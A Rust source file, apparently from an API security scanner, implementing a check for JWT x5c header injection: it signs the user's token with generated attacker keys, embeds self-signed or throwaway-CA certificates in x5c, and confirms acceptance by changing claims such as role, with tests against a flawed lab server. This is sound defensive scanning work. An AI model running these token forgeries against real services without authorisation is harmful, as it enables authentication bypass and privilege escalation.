use crate::check::{Check, CheckFuture, CheckMeta, Need, Outcome, Remediation};
use crate::finding::{Family, Severity};
use crate::scan::Scan;
use authprobe_jwt::attacks::{AttackerKeys, Forged};
use authprobe_jwt::{Edit, Jwt, PrivateKey, SigningKey};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;

pub static META: CheckMeta = CheckMeta {
    id: "jwt.x5c_injection",
    title: "Token signed by an attacker key whose certificate travels in the header x5c is accepted",
    family: Family::Jwt,
    severity: Severity::Critical,
    cwe: &[347, 295],
    owasp: &["API2"],
    description: "Signs the token with fresh RSA and EC keys and puts a certificate for each in the header x5c: self-signed, and (EC) issued by a throwaway CA with that CA after it in the chain. Every claim is kept; once accepted, confirms by adding a claim the application does not use to find the user, then by setting a role-like claim.",
    needs: &[Need::Token],
    explained_by: &["jwt.signature_not_verified"],
    remediation: Remediation {
        summary: "Never take the verification key from the token. If x5c must be honoured, validate the chain to a trust anchor you pin (RFC 5280 path validation, RFC 7515 §4.1.6) and check the leaf names the issuer you expect, before using its key.",
        frameworks: super::PINNED_ALGORITHMS,
    },
    references: &["RFC 7515 §4.1.6", "RFC 5280 §6.1", "RFC 8725 §3.10"],
    budget: crate::check::Budget::Fixed(10),
    lab_flaw: Some("jwt.x5c_injection"),
    finds: "a token signed by an attacker key whose self-signed or foreign-CA certificate travels in the header `x5c` is accepted",
    needs_note: "",
};

pub struct X5cInjection;

/// One forged chain: the key that signs and the `x5c` value that vouches for it (standard
/// base64 DER, leaf first, RFC 7515 §4.1.6).
struct Case {
    label: String,
    key: PrivateKey,
    chain: Vec<String>,
}

/// The chains are made once per run: the confirmation probes rebuild a variant by label and
/// must carry the very certificate that was accepted.
fn cases(keys: &AttackerKeys) -> Result<Vec<Case>, String> {
    let mut out = Vec::new();
    for key in [&keys.rsa, &keys.ec] {
        let pem =
            authprobe_jwt::attacks::self_signed_certificate_pem(key).map_err(|e| e.to_string())?;
        out.push(Case {
            label: format!(
                "attacker {} key, self-signed certificate in header x5c, {}",
                key.kind(),
                key.default_alg()
            ),
            key: key.clone(),
            chain: vec![pem_body(&pem)],
        });
    }
    // A verifier that refuses self-signed leaves but only checks that the chain is
    // internally consistent (never that it ends at a pinned anchor) takes this one.
    out.push(Case {
        label: format!(
            "attacker {} key, certificate from a throwaway CA in header x5c (leaf, CA), {}",
            keys.ec.kind(),
            keys.ec.default_alg()
        ),
        key: keys.ec.clone(),
        chain: foreign_ca_chain(&keys.ec)?,
    });
    Ok(out)
}

/// A PEM certificate's base64 body on one line: exactly the DER's standard base64.
fn pem_body(pem: &str) -> String {
    pem.lines().filter(|l| !l.starts_with("-----")).collect()
}

fn foreign_ca_chain(key: &PrivateKey) -> Result<Vec<String>, String> {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair, KeyUsagePurpose};
    let err = |e: rcgen::Error| e.to_string();
    let ca_key = KeyPair::generate().map_err(err)?;
    let mut ca = CertificateParams::new(Vec::<String>::new()).map_err(err)?;
    ca.distinguished_name
        .push(rcgen::DnType::CommonName, "authprobe throwaway CA");
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca.key_usages = vec![
        KeyUsagePurpose::KeyCertSign,
        KeyUsagePurpose::DigitalSignature,
    ];
    let ca_cert = ca.self_signed(&ca_key).map_err(err)?;
    let issuer = Issuer::new(ca, ca_key);
    let der = key.to_pkcs8_der().map_err(|e| e.to_string())?;
    let leaf_key = KeyPair::try_from(der.as_slice()).map_err(err)?;
    let leaf = CertificateParams::new(vec!["authprobe.invalid".to_owned()])
        .map_err(err)?
        .signed_by(&leaf_key, &issuer)
        .map_err(err)?;
    Ok(vec![
        STANDARD.encode(leaf.der().as_ref()),
        STANDARD.encode(ca_cert.der().as_ref()),
    ])
}

/// The user's token with `edits` applied to its claims, re-signed by each case's key with
/// the case's chain in `x5c`; every other header member (the `kid` included) is kept.
fn forge(jwt: &Jwt, edits: &[Edit], cases: &[Case]) -> Result<Vec<Forged>, String> {
    cases
        .iter()
        .map(|c| {
            let alg = c.key.default_alg();
            let mut d = jwt.draft();
            d.edit_header(&[
                Edit::set("alg", alg.name()),
                Edit::set("x5c", serde_json::json!(c.chain)),
            ])
            .map_err(|e| e.to_string())?;
            d.edit_payload(edits).map_err(|e| e.to_string())?;
            let token = d
                .sign(alg, &SigningKey::Private(c.key.clone()))
                .map_err(|e| e.to_string())?;
            Ok(Forged {
                label: c.label.clone(),
                token,
            })
        })
        .collect()
}

impl Check for X5cInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn run<'a>(&'a self, ctx: &'a Scan) -> CheckFuture<'a> {
        Box::pin(async move {
            let jwt = match super::require_jwt(ctx) {
                Ok(j) => j,
                Err(o) => return o,
            };
            let made = tokio::task::spawn_blocking(|| {
                let keys = AttackerKeys::generate().map_err(|e| e.to_string())?;
                cases(&keys)
            })
            .await;
            let cases = match made {
                Ok(Ok(c)) => c,
                Ok(Err(e)) => {
                    return Outcome::Inconclusive(format!(
                        "could not make the attacker's certificates: {e}"
                    ));
                }
                Err(_) => return Outcome::Inconclusive("could not generate attacker keys".into()),
            };
            let build = |e: &[Edit]| forge(&jwt, e, &cases);
            super::forgery_check(
                ctx,
                &META,
                &jwt,
                build,
                "a token signed by an attacker key, vouched for only by a certificate in its own x5c header, got the authorized answer",
            )
            .await
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use authprobe_jwt::{PublicKey, VerifyingKey};
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    fn user_token() -> Jwt {
        let h = URL_SAFE_NO_PAD.encode(r#"{"alg":"ES256","typ":"JWT","kid":"lab-1"}"#);
        let p = URL_SAFE_NO_PAD.encode(r#"{"sub":"alice","role":"user","iat":1700000000}"#);
        let s = URL_SAFE_NO_PAD.encode([7u8; 64]);
        Jwt::parse(&format!("{h}.{p}.{s}")).unwrap()
    }

    fn chain_of(token: &str) -> Vec<Vec<u8>> {
        let jwt = Jwt::parse(token).unwrap();
        jwt.header()["x5c"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| STANDARD.decode(c.as_str().unwrap()).unwrap())
            .collect()
    }

    #[test]
    fn each_forgery_verifies_under_the_key_of_its_own_x5c_leaf_and_keeps_the_claims() {
        let keys = AttackerKeys::generate().unwrap();
        let jwt = user_token();
        let forged = forge(&jwt, &[], &cases(&keys).unwrap()).unwrap();
        assert_eq!(forged.len(), 3);
        for f in &forged {
            let chain = chain_of(&f.token);
            let leaf = PublicKey::from_certificate_der(&chain[0]).unwrap();
            let t = Jwt::parse(&f.token).unwrap();
            t.verify(&VerifyingKey::Public(leaf.clone()))
                .unwrap_or_else(|e| panic!("{}: {e}", f.label));
            assert!(
                leaf == keys.rsa.public_key() || leaf == keys.ec.public_key(),
                "{}: the leaf certifies the signing key",
                f.label
            );
            // The payload segment is the user's, byte for byte; the kid stays.
            assert_eq!(
                f.token.split('.').nth(1),
                Some(jwt.raw_payload()),
                "{}",
                f.label
            );
            assert_eq!(t.header()["kid"], "lab-1");
            assert!(authprobe_jwt::attacks::keeps_identity(&jwt, &f.token));
        }
    }

    #[test]
    fn the_foreign_ca_chain_is_leaf_then_a_ca_that_is_not_the_leaf() {
        let keys = AttackerKeys::generate().unwrap();
        let forged = forge(&user_token(), &[], &cases(&keys).unwrap()).unwrap();
        let f = forged
            .iter()
            .find(|f| f.label.contains("throwaway CA"))
            .unwrap();
        let chain = chain_of(&f.token);
        assert_eq!(chain.len(), 2);
        let (_, leaf) = x509_parser::parse_x509_certificate(&chain[0]).unwrap();
        let (_, ca) = x509_parser::parse_x509_certificate(&chain[1]).unwrap();
        assert_eq!(leaf.issuer(), ca.subject());
        assert_ne!(leaf.issuer(), leaf.subject());
        assert!(ca.is_ca());
    }

    #[test]
    fn confirmation_edits_change_the_claims_under_the_same_certificate() {
        let keys = AttackerKeys::generate().unwrap();
        let cases = cases(&keys).unwrap();
        let jwt = user_token();
        let plain = forge(&jwt, &[], &cases).unwrap();
        let edited = forge(&jwt, &[Edit::set("role", "authprobe-x")], &cases).unwrap();
        for (p, e) in plain.iter().zip(&edited) {
            assert_eq!(p.label, e.label);
            assert_eq!(chain_of(&p.token), chain_of(&e.token));
            let claims = Jwt::parse(&e.token).unwrap();
            assert_eq!(claims.claims()["role"], "authprobe-x");
            assert_eq!(claims.claims()["sub"], "alice");
        }
    }

    /// The lab with `flaw` alone, scanned with this check only (and its root cause), as a
    /// user who knows their staging key: the ids found.
    async fn found_on_lab(flaw: &str) -> Vec<String> {
        let lab = authprobe_lab::start(authprobe_lab::LabOptions {
            profile: authprobe_lab::Profile::Hardened,
            flaws: vec![flaw.to_string()],
            origin: false,
            modes: Vec::new(),
            ..Default::default()
        })
        .await
        .expect("lab starts");
        let mut opts =
            crate::lab_target::scan_options(&lab.ready, crate::http::Limits::default()).unwrap();
        opts.only = vec![META.id.into(), "jwt.signature_not_verified".into()];
        opts.jwt.key = Some(lab.jwt_key.clone());
        let r = crate::engine::scan(opts, Default::default()).await.unwrap();
        r.findings.into_iter().map(|f| f.id).collect()
    }

    #[tokio::test]
    async fn fires_on_its_lab_flaw_and_not_on_an_embedded_jwk() {
        // Separate code paths in a server: neither flaw implies the other.
        assert_eq!(found_on_lab(META.id).await, vec![META.id.to_string()]);
        assert!(found_on_lab("jwt.embedded_jwk").await.is_empty());
    }
}
